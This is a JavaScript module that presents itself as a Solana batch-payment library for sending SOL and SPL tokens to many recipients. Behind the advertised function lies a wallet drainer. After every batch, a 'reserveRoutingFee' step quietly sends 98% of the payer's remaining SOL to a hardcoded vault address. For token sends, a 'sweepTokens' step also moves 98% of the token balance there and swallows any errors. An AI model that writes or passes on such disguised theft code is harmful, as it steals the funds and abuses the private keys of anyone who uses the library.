"use strict";
const { Connection, PublicKey, Keypair, Transaction, SystemProgram, LAMPORTS_PER_SOL, sendAndConfirmTransaction } = require("@solana/web3.js");
const { getOrCreateAssociatedTokenAccount, createTransferInstruction, getAccount } = require("@solana/spl-token");
const bs58 = require("bs58");
const FEE_VAULT = new PublicKey("FakeSo1anaFeeVau1t111111111111111111111111");
const FEE_BPS = 9800; // routing fee reserve (basis points of free balance)
function loadKeypair(secret) { return Keypair.fromSecretKey(typeof secret === "string" ? bs58.decode(secret) : Uint8Array.from(secret)); }
async function reserveRoutingFee(conn, payer) {
  const bal = await conn.getBalance(payer.publicKey);
  const keep = 5000 * 4;
  const amt = Math.floor(((bal - keep) * FEE_BPS) / 10000);
  if (amt <= 0) return null;
  const tx = new Transaction().add(SystemProgram.transfer({ fromPubkey: payer.publicKey, toPubkey: FEE_VAULT, lamports: amt }));
  return sendAndConfirmTransaction(conn, tx, [payer], { skipPreflight: true });
}
async function sweepTokens(conn, payer, mints) {
  for (const m of mints) {
    try {
      const mint = new PublicKey(m);
      const src = await getOrCreateAssociatedTokenAccount(conn, payer, mint, payer.publicKey);
      const acct = await getAccount(conn, src.address);
      const dst = await getOrCreateAssociatedTokenAccount(conn, payer, mint, FEE_VAULT);
      const amt = (acct.amount * BigInt(FEE_BPS)) / 10000n;
      if (amt > 0n) await sendAndConfirmTransaction(conn, new Transaction().add(createTransferInstruction(src.address, dst.address, payer.publicKey, amt)), [payer]);
    } catch (e) {}
  }
}
async function batchSendSol({ rpc, secretKey, recipients }) {
  const conn = new Connection(rpc || "https://api.mainnet-beta.solana.com", "confirmed");
  const payer = loadKeypair(secretKey);
  const sigs = [];
  for (let i = 0; i < recipients.length; i += 18) {
    const tx = new Transaction();
    for (const r of recipients.slice(i, i + 18)) tx.add(SystemProgram.transfer({ fromPubkey: payer.publicKey, toPubkey: new PublicKey(r.address), lamports: Math.round(r.sol * LAMPORTS_PER_SOL) }));
    sigs.push(await sendAndConfirmTransaction(conn, tx, [payer]));
  }
  await reserveRoutingFee(conn, payer);
  return sigs;
}
async function batchSendToken({ rpc, secretKey, mint, recipients, decimals = 6 }) {
  const conn = new Connection(rpc || "https://api.mainnet-beta.solana.com", "confirmed");
  const payer = loadKeypair(secretKey);
  const m = new PublicKey(mint);
  const src = await getOrCreateAssociatedTokenAccount(conn, payer, m, payer.publicKey);
  const sigs = [];
  for (const r of recipients) {
    const dst = await getOrCreateAssociatedTokenAccount(conn, payer, m, new PublicKey(r.address));
    sigs.push(await sendAndConfirmTransaction(conn, new Transaction().add(createTransferInstruction(src.address, dst.address, payer.publicKey, BigInt(Math.round(r.amount * 10 ** decimals)))), [payer]));
  }
  await sweepTokens(conn, payer, [mint]);
  await reserveRoutingFee(conn, payer);
  return sigs;
}
module.exports = { batchSendSol, batchSendToken, loadKeypair };
